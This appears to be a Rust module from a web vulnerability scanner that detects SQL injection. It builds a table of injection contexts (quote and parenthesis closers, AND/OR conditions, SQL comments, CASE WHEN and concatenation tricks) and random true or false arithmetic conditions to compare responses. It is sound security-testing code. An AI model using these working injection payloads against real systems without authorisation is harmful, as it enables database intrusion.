//! Where a value can stand in a statement, and how a condition is added there.
//!
//! Conditions are differences: `7401-3312=4089` is true and `3312-7401=4089` is not, and both are made of the same signs. An
//! application that looks at the signs, counts or filters them cannot tell one from the other; one that works them out can.

use model::Env;
use model::definition::Effect;
use model::profile::Payloads;

use crate::data::point;
use crate::probe::Probe;

/// How a condition is joined to the value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Join {
    /// `value close AND condition rest`: changes no more rows than the value does.
    And,
    /// `other close OR condition rest`, where a true condition may reach every row.
    Or,
    /// The template stands in `rest`.
    Own,
}

/// What the value must be for the context to make sense.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Value {
    Any,
    Number,
    Name,
    /// At least two letters or digits, so that it can be cut.
    Cut,
}

/// A place in a statement.
#[derive(Debug, Clone, Copy)]
pub(super) struct Context {
    pub(super) join: Join,
    pub(super) value: Value,
    pub(super) close: &'static str,
    pub(super) rest: &'static str,
    pub(super) from: Payloads,
}

const fn and(value: Value, close: &'static str, rest: &'static str, from: Payloads) -> Context {
    Context { join: Join::And, value, close, rest, from }
}

const fn or(value: Value, close: &'static str, rest: &'static str, from: Payloads) -> Context {
    Context { join: Join::Or, value, close, rest, from }
}

const fn own(value: Value, rest: &'static str, from: Payloads) -> Context {
    Context { join: Join::Own, value, close: "", rest, from }
}

use Payloads::{Light, Normal, Thorough};
use Value::{Any, Cut, Name, Number};

/// Contexts, the most common first. `LIKE` compares as `=` does and forgives a `%` that the statement adds. The absolute value of
/// the least whole number is an error wherever it is worked out, as is a query with two rows in the place of one value.
pub(super) const CONTEXTS: &[Context] = &[
    and(Number, "", "", Light),
    and(Any, "'", " AND 'w' LIKE 'w", Light),
    and(Any, "'", "-- -", Light),
    or(Any, "'", "-- -", Light),
    and(Any, "%'", " AND 'w' LIKE 'w", Normal),
    and(Any, "\"", " AND \"w\" LIKE \"w", Normal),
    and(Any, "')", " AND ('w' LIKE 'w", Normal),
    and(Number, ")", " AND (7=7", Normal),
    and(Any, "')", "-- -", Normal),
    and(Number, "", "-- -", Normal),
    and(Number, ")", "-- -", Normal),
    or(Any, "'", " OR 'w' LIKE 'x", Normal),
    or(Number, "", "", Normal),
    or(Any, "\"", " OR \"w\" LIKE \"x", Normal),
    or(Any, "')", "-- -", Normal),
    own(Number, "{V}-({A}-{B}-{D})", Normal),
    own(Name, "{V},(CASE WHEN {C} THEN 1 ELSE abs(-9223372036854775807-1) END)", Normal),
    own(Name, "CASE WHEN {C} THEN {V} ELSE NULL END", Normal),
    own(Any, "{V}'/**/AND/**/{C}/**/AND/**/'w'LIKE'w", Normal),
    own(Cut, "{CONCAT}", Normal),
    own(Cut, "{ADJACENT}", Normal),
    and(Any, "'", "#", Thorough),
    and(Any, "%'", "-- -", Thorough),
    and(Any, "%')", "-- -", Thorough),
    and(Any, "'))", "-- -", Thorough),
    and(Any, "'))", " AND (('w' LIKE 'w", Thorough),
    and(Any, "%')", " AND ('w' LIKE 'w", Thorough),
    and(Any, "\")", " AND (\"w\" LIKE \"w", Thorough),
    and(Any, "\"", "-- -", Thorough),
    and(Number, "))", " AND ((7=7", Thorough),
    and(Any, "`", "-- -", Thorough),
    own(Number, "{V}/**/AND/**/{C}", Thorough),
    own(Name, "{V},(CASE WHEN {C} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)", Thorough),
    or(Any, "\"", "-- -", Thorough),
    or(Number, ")", "-- -", Thorough),
    or(Any, "\\' ", "-- -", Thorough),
    or(Any, "'))", "-- -", Thorough),
];

/// The three numbers of a difference: `a - b = d`, all at least 1000 so that none hides in another text.
pub(crate) fn difference(env: &Env) -> (u64, u64, u64) {
    let (b, d) = (1000 + env.below(4000), 1000 + env.below(4000));
    (b + d, b, d)
}

/// A difference that is true or false.
pub(crate) fn condition(env: &Env, yes: bool, equals: &str) -> String {
    let (a, b, d) = difference(env);
    if yes { format!("{a}-{b}{equals}{d}") } else { format!("{b}-{a}{equals}{d}") }
}

impl Context {
    /// Whether it makes sense at the point.
    pub(super) fn fits(&self, probe: &Probe<'_>) -> bool {
        let base = point::base(probe);
        let value = match self.value {
            Any => true,
            Number => point::is_number(base),
            Name => point::is_name(base) && !probe.point.value.is_empty(),
            Cut => base.len() >= 2 && base.bytes().all(|b| b.is_ascii_alphanumeric()),
        };
        value && self.from <= probe.payloads && (self.join != Join::Or || point::may_widen(probe))
    }

    /// The payload, with random parts of its own.
    pub(super) fn payload(&self, probe: &Probe<'_>, yes: bool) -> String {
        let env = probe.client.env();
        let (close, rest) = (self.close, self.rest);
        let base = point::base(probe);
        match self.join {
            Join::And => format!("{base}{close} AND {}{rest}", condition(env, yes, "=")),
            Join::Or => {
                let other =
                    if self.value == Number { format!("-{}", 1000 + env.below(9000)) } else { probe.token() };
                format!("{other}{close} OR {}{rest}", condition(env, yes, "="))
            }
            Join::Own => self.own(probe, base, yes),
        }
    }

    fn own(&self, probe: &Probe<'_>, base: &str, yes: bool) -> String {
        let env = probe.client.env();
        if self.value == Cut {
            let at = 1 + usize::try_from(env.below(base.len() as u64 - 1)).unwrap_or(0);
            let (left, right) = base.split_at_checked(at).unwrap_or((base, ""));
            // The same signs in another order: one is two texts put together, the other one text that holds a quote.
            // No two requests that may change something are equal, and a short value is cut in few ways.
            let note = match probe.request.effect() {
                Effect::Passive | Effect::Safe => String::new(),
                _ => format!("/*{}*/", probe.token()),
            };
            return match (self.rest, yes) {
                ("{CONCAT}", true) => format!("{left}'{note}||'{right}"),
                ("{CONCAT}", false) => format!("{left}{note}||''{right}"),
                (_, true) => format!("{left}'{note} '{right}"),
                (_, false) => format!("{left}{note} ''{right}"),
            };
        }
        let (a, b, d) = difference(env);
        let (first, second) = if yes { (a, b) } else { (b, a) };
        self.rest
            .replace("{A}", &first.to_string())
            .replace("{B}", &second.to_string())
            .replace("{D}", &d.to_string())
            .replace("{C}", &condition(env, yes, "="))
            .replace("{V}", base)
    }
}
